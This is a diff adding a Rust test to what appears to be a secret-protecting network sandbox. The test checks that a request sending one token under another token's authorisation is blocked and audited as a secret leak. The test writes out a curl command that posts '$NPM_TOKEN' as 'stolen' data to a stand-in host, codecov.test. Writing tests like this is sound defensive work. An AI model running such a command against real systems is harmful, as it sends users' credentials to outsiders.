@@ -274,3 +274,36 @@ fn method_and_path_rules_are_enforced_on_segment_boundaries() {
         1
     );
 }
+
+#[test]
+fn an_intercepted_body_carrying_another_secret_is_cut_off() {
+    if !needs_root() {
+        return;
+    }
+    let net = Internet::new();
+    let dir = Dir::new(NOBODY);
+    let profile = format!("{PROFILE}  NPM_TOKEN: {{}}\n");
+    let out = run(
+        &net,
+        &dir,
+        &profile,
+        "curl -sS -H \"Authorization: token $CODECOV_TOKEN\" --data-binary \"stolen=$NPM_TOKEN\" https://codecov.test/upload; echo rc=$?",
+    );
+    assert!(
+        !out.stdout().contains("hello from codecov.test"),
+        "{}",
+        out.stdout()
+    );
+    assert!(
+        !net.log("requests.log").contains("npm_other"),
+        "{}",
+        net.log("requests.log")
+    );
+    let ev = audit_events(&dir);
+    let leak = find(
+        &ev,
+        "secret_leak",
+        &[("secret_name", "NPM_TOKEN"), ("dest_name", "codecov.test")],
+    );
+    assert_eq!(leak.len(), 1, "{ev:#?}");
+}
